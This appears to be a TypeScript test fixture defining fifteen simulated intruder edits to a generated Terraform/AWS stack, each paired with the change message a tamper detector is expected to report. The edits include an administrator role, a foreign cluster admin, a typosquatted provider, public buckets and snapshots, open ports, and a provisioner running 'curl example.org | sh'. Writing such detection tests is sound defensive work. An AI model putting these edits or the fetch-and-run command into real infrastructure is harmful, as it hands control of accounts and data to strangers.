import { type Layer } from "../../../src/base/layers";
import { type Editable } from "../../support/altered";

/** One of the fifteen additions of an intruder to a copy of an output, and the one line that names it. */
export interface Attack {
  readonly title: string;
  readonly layer: Layer;
  readonly edit: (stack: Editable) => void;
  /** Address and message of the error. */
  readonly address: string;
  readonly message: string;
}

const ADDED = "the plan has it, and the stack does not";

const adding = (title: string, layer: Layer, type: string, config: Editable): Attack => ({
  title,
  layer,
  edit: ({ resource }) => (resource[type] = { ...resource[type], intruder: config }),
  address: `${type}.intruder`,
  message: ADDED,
});

const first = (blocks: Editable): Editable => Object.values(blocks)[0] as Editable;

/** The fifteen attacks of a copy of the output of `mlapp`. */
export const ATTACKS: readonly Attack[] = [
  adding("a role with AdministratorAccess", "cluster", "aws_iam_role", {
    name: "intruder",
    assume_role_policy: "{}",
    managed_policy_arns: ["arn:aws:iam::aws:policy/AdministratorAccess"],
  }),
  adding("a stranger as cluster admin", "cluster", "aws_eks_access_policy_association", {
    cluster_name: "${aws_eks_cluster.main.name}",
    policy_arn: "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy",
    principal_arn: "arn:aws:iam::999999999999:root",
    access_scope: { type: "cluster" },
  }),
  adding("an SSH key", "cluster", "aws_key_pair", { key_name: "intruder", public_key: "ssh-ed25519 AAAA" }),
  {
    title: "a foreign AMI",
    layer: "cluster",
    edit: ({ resource }) => (first(resource.aws_launch_template).image_id = "ami-0123456789abcdef0"),
    address: "aws_launch_template.*",
    message: 'image_id: nothing -> "ami-0123456789abcdef0"',
  },
  {
    title: "a provisioner that runs a script of a stranger",
    layer: "network",
    edit: ({ resource }) =>
      (resource.aws_vpc.main.provisioner = [{ "local-exec": { command: "curl example.org | sh" } }]),
    address: "aws_vpc.main",
    message: 'provisioner[0]: nothing -> local-exec {"command":"curl example.org | sh"}',
  },
  {
    title: "a provider of a stranger",
    layer: "network",
    edit: ({ terraform }) => (terraform.required_providers.aws.source = "hashicopr/aws"),
    address: "provider.aws",
    message: 'source: "registry.terraform.io/hashicorp/aws" -> "registry.terraform.io/hashicopr/aws"',
  },
  {
    title: "a foreign module",
    layer: "network",
    edit: (stack) => (stack["module"] = { intruder: { source: "git::https://example.org/m.git", size: 1 } }),
    address: "module.intruder",
    message: 'source: nothing -> "git::https://example.org/m.git"',
  },
  adding("a database snapshot that is shared with everyone", "platform", "aws_db_cluster_snapshot", {
    db_cluster_identifier: "x",
    db_cluster_snapshot_identifier: "x",
    shared_accounts: ["all"],
  }),
  adding("a public function URL", "platform", "aws_lambda_function_url", {
    function_name: "intruder",
    authorization_type: "NONE",
  }),
  adding("the public access block of the account, off", "state", "aws_s3_account_public_access_block", {
    block_public_acls: false,
  }),
  {
    title: "no policy that denies by default",
    layer: "models",
    edit: ({ resource }) => (resource.kubernetes_network_policy_v1.models_default_deny.count = 0),
    address: "kubernetes_network_policy_v1.models_default_deny",
    message: "count: nothing -> 0",
  },
  {
    title: "no public access block of a bucket",
    layer: "state",
    edit: ({ resource }) => (resource.aws_s3_bucket_public_access_block.state_bucket.count = 0),
    address: "aws_s3_bucket_public_access_block.state_bucket",
    message: "count: nothing -> 0",
  },
  adding("every port open, from a file of its own", "network", "aws_vpc_security_group_ingress_rule", {
    security_group_id: "${aws_security_group.endpoints.id}",
    cidr_ipv4: "0.0.0.0/0",
    ip_protocol: "-1",
  }),
  {
    title: "the API open, by an override",
    layer: "cluster",
    edit: ({ resource }) => {
      const { vpc_config: config } = resource.aws_eks_cluster.main;
      (Array.isArray(config) ? config[0] : config).endpoint_public_access = true;
    },
    address: "aws_eks_cluster.main",
    message: "vpc_config.endpoint_public_access: false -> true",
  },
  adding("a peering to a stranger", "network", "aws_vpc_peering_connection", {
    vpc_id: "${aws_vpc.main.id}",
    peer_vpc_id: "vpc-0123456789abcdef0",
    peer_owner_id: "999999999999",
  }),
];
